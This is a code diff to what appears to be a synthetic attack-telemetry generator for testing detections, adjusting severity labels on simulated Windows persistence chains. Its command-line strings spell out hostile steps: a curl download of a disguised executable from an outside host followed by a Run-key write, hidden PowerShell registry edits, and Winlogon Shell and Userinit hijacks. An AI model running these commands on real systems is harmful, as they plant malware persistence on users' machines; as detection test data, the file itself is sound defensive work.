@@ -26,11 +26,12 @@ export function encodePowerShell(script: string): string {
   return btoa(bin);
 }
 
+/** Only the persistence records carry a minimum severity; the rest of the chain is context a finding links. */
 function labeller(story: AttackStory, minSeverity: Severity) {
-  return (role: StoryRole, extra: string[] = [], sev?: Severity): Label => ({
+  return (role: StoryRole, extra: string[] = []): Label => ({
     story: story.id, title: story.title, role, malicious: true,
     techniques: role === 'persistence' || role === 'execution' || role === 'cleanup' ? [...story.techniques, ...extra] : extra,
-    minSeverity: role === 'persistence' ? minSeverity : sev,
+    minSeverity: role === 'persistence' ? minSeverity : undefined,
   });
 }
 
@@ -57,15 +58,15 @@ export const ATTACK_STORIES: readonly AttackStory[] = [
     chain.wait(8000, 40000);
     const cmd = chain.spawn(word, `${SYS32}\\cmd.exe`,
       `cmd.exe /c "curl -s -o %APPDATA%\\Microsoft\\Windows\\msupdate.exe https://cdn-files.update-check.net/a/msupdate.exe && reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v MSUpdate /t REG_SZ /d "%APPDATA%\\Microsoft\\Windows\\msupdate.exe" /f"`,
-      L('writer-process', ['T1059.003'], 'medium'));
+      L('writer-process', ['T1059.003']));
     chain.wait(30, 120);
-    const curl = chain.spawn(cmd, `${SYS32}\\curl.exe`, `curl  -s -o ${payload} https://cdn-files.update-check.net/a/msupdate.exe`, L('writer-process', ['T1105']));
+    const curl = chain.spawn(cmd, `${SYS32}\\curl.exe`, `curl  -s -o ${payload} https://cdn-files.update-check.net/a/msupdate.exe`, L('delivery', ['T1105']));
     chain.wait(400, 2500);
     chain.file(curl, payload, L('payload-file', ['T1105']));
     chain.wait(50, 200);
     const reg = chain.spawn(cmd, `${SYS32}\\reg.exe`,
       `reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v MSUpdate /t REG_SZ /d "${payload}" /f`,
-      L('writer-process', ['T1112'], 'medium'));
+      L('writer-process', ['T1112']));
     chain.wait(5, 40);
     chain.reg(reg, { action: 'set-value', key: hkcu(user, `${CV}\\Run`), valueName: 'MSUpdate', valueType: 'REG_SZ', data: payload }, L('persistence'));
     ctx.register({ id: 'appdata-reg-add', user, launcher: 'explorer', image: payload, commandLine: `"${payload}"`, label: L('execution') });
@@ -80,7 +81,7 @@ export const ATTACK_STORIES: readonly AttackStory[] = [
     chain.wait(300, 1500);
     const ps = chain.spawn(wscript, PS_EXE,
       `powershell.exe -NoP -W Hidden -c "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'WinNetSvc' -Value '${value}'"`,
-      L('writer-process', ['T1059.001'], 'medium'));
+      L('writer-process', ['T1059.001']));
     chain.wait(600, 2000);
     chain.reg(ps, { action: 'set-value', key: hkcu(user, `${CV}\\Run`), valueName: 'WinNetSvc', valueType: 'REG_SZ', data: value }, L('persistence'));
     ctx.register({ id: 'encoded-powershell-run', user, launcher: 'explorer', image: PS_EXE, commandLine: value, label: L('execution') });
@@ -104,10 +105,10 @@ export const ATTACK_STORIES: readonly AttackStory[] = [
       `"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "${user.profile}\\Downloads\\Q1_bonus.xlsm"`);
     chain.wait(5000, 20000);
     const cmd = chain.spawn(excel, `${SYS32}\\cmd.exe`, `cmd.exe /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v Sync /d "${value.replace(/"/g, '\\"')}" /f`,
-      L('writer-process', ['T1059.003'], 'medium'));
+      L('writer-process', ['T1059.003']));
     chain.wait(20, 90);
     const reg = chain.spawn(cmd, `${SYS32}\\reg.exe`, `reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v Sync /d "${value.replace(/"/g, '\\"')}" /f`,
-      L('writer-process', ['T1112'], 'medium'));
+      L('writer-process', ['T1112']));
     chain.wait(5, 40);
     const key = hkcu(user, `${CV}\\RunOnce`);
     chain.reg(reg, { action: 'set-value', key, valueName: 'Sync', valueType: 'REG_SZ', data: value }, L('persistence'));
@@ -123,7 +124,7 @@ export const ATTACK_STORIES: readonly AttackStory[] = [
     chain.wait(4000, 20000);
     const data = `C:\\Windows\\system32\\userinit.exe,${payload},`;
     const reg = chain.spawn(ps, `${SYS32}\\reg.exe`, `"C:\\Windows\\system32\\reg.exe" add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Userinit /t REG_SZ /d "${data}" /f`,
-      L('writer-process', ['T1112'], 'medium'));
+      L('writer-process', ['T1112']));
     chain.wait(5, 40);
     chain.reg(reg, { action: 'set-value', key: WINLOGON, valueName: 'Userinit', valueType: 'REG_SZ', data, previous: 'C:\\Windows\\system32\\userinit.exe,' }, L('persistence'));
     ctx.register({ id: 'winlogon-userinit', launcher: 'winlogon', image: payload, commandLine: payload, label: L('execution') });
@@ -137,10 +138,10 @@ export const ATTACK_STORIES: readonly AttackStory[] = [
     chain.file(ps, payload, L('payload-file', ['T1105']));
     chain.wait(3000, 9000);
     const cmd = chain.spawn(ps, `${SYS32}\\cmd.exe`, `"C:\\Windows\\system32\\cmd.exe" /c reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d "${payload}" /f`,
-      L('writer-process', ['T1059.003'], 'medium'));
+      L('writer-process', ['T1059.003']));
     chain.wait(20, 80);
     const reg = chain.spawn(cmd, `${SYS32}\\reg.exe`, `reg  add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d "${payload}" /f`,
-      L('writer-process', ['T1112'], 'medium'));
+      L('writer-process', ['T1112']));
     chain.wait(5, 40);
     chain.reg(reg, { action: 'set-value', key: WINLOGON, valueName: 'Shell', valueType: 'REG_SZ', data: payload, previous: 'explorer.exe' }, L('persistence'));
     ctx.register({ id: 'winlogon-shell', launcher: 'shell', image: payload, commandLine: payload, label: L('execution') });
@@ -150,7 +151,7 @@ export const ATTACK_STORIES: readonly AttackStory[] = [
     const { chain, user, explorer } = ctx;
     const dir = 'C:\\Users\\Public\\Libraries\\Startup';
     const payload = `${dir}\\svcupdate.exe`;
-    const ps = chain.spawn(explorer, PS_EXE, `powershell.exe -ExecutionPolicy Bypass -File "${user.profile}\\Downloads\\setup-helper.ps1"`, L('writer-process', ['T1059.001'], 'medium'));
+    const ps = chain.spawn(explorer, PS_EXE, `powershell.exe -ExecutionPolicy Bypass -File "${user.profile}\\Downloads\\setup-helper.ps1"`, L('writer-process', ['T1059.001']));
     chain.wait(2000, 6000);
     chain.file(ps, payload, L('payload-file', ['T1105']));
     chain.wait(500, 3000);
@@ -179,7 +180,7 @@ export const ATTACK_STORIES: readonly AttackStory[] = [
     const lnk = `${startupDir(user)}\\Adobe Updater.lnk`;
     const ps = chain.spawn(explorer, PS_EXE,
       `powershell.exe -NoP -c "$s=(New-Object -COM WScript.Shell).CreateShortcut('${lnk}');$s.TargetPath='${payload}';$s.Save()"`,
-      L('writer-process', ['T1059.001'], 'medium'));
+      L('writer-process', ['T1059.001']));
     chain.wait(100, 400);
     chain.file(ps, payload, L('payload-file', ['T1105']));
     chain.wait(300, 1200);
@@ -196,7 +197,7 @@ export const ATTACK_STORIES: readonly AttackStory[] = [
     chain.wait(2000, 8000);
     const data = `"${payload}" /silent`;
     const reg = chain.spawn(ps, `${SYS32}\\reg.exe`, `"C:\\Windows\\system32\\reg.exe" add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveUpdate /t REG_SZ /d "\\"${payload}\\" /silent" /f`,
-      L('writer-process', ['T1112'], 'medium'));
+      L('writer-process', ['T1112']));
     chain.wait(5, 40);
     chain.reg(reg, { action: 'set-value', key: HKLM_RUN, valueName: 'OneDriveUpdate', valueType: 'REG_SZ', data }, L('persistence'));
     ctx.register({ id: 'onedrive-masquerade', launcher: 'explorer', image: payload, commandLine: data, label: L('execution') });
@@ -222,9 +223,10 @@ export const ATTACK_STORIES: readonly AttackStory[] = [
     const regedit = chain.spawn(explorer, 'C:\\Windows\\regedit.exe', '"C:\\Windows\\regedit.exe" ', L('writer-process', ['T1112']));
     chain.wait(15000, 60000);
     const parent = hkcu(user, `${CV}\\Policies\\Explorer`);
-    chain.reg(regedit, { action: 'create-key', key: `${parent}\\New Key #1` }, L('persistence', ['T1112'], 'medium'));
+    // the bare key creation is context: the rename into Run and the value write are the persistence
+    chain.reg(regedit, { action: 'create-key', key: `${parent}\\New Key #1` }, L('chain-context', ['T1112']));
     chain.wait(3000, 12000);
-    chain.reg(regedit, { action: 'rename-key', key: `${parent}\\New Key #1`, newKey: `${parent}\\Run` }, L('persistence', ['T1112'], 'medium'));
+    chain.reg(regedit, { action: 'rename-key', key: `${parent}\\New Key #1`, newKey: `${parent}\\Run` }, L('persistence', ['T1112']));
     chain.wait(8000, 30000);
     chain.reg(regedit, { action: 'set-value', key: `${parent}\\Run`, valueName: 'SysHelper', valueType: 'REG_SZ', data: payload }, L('persistence'));
     ctx.register({ id: 'policies-explorer-run', user, launcher: 'explorer', image: payload, commandLine: `"${payload}"`, label: L('execution') });
@@ -240,10 +242,10 @@ export const ATTACK_STORIES: readonly AttackStory[] = [
     const loader = chain.spawn(explorer, payload, `"${payload}" `, L('writer-process', ['T1204.002']));
     chain.wait(500, 2000);
     const cmd = chain.spawn(loader, `${SYS32}\\cmd.exe`, `cmd.exe /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v OneShot /d "${payload}" /f`,
-      L('writer-process', ['T1059.003'], 'medium'));
+      L('writer-process', ['T1059.003']));
     chain.wait(20, 80);
     const reg = chain.spawn(cmd, `${SYS32}\\reg.exe`, `reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v OneShot /d "${payload}" /f`,
-      L('writer-process', ['T1112'], 'medium'));
+      L('writer-process', ['T1112']));
     chain.wait(5, 40);
     const key = hkcu(user, `${CV}\\RunOnce`);
     chain.reg(reg, { action: 'set-value', key, valueName: 'OneShot', valueType: 'REG_SZ', data: payload }, L('persistence'));
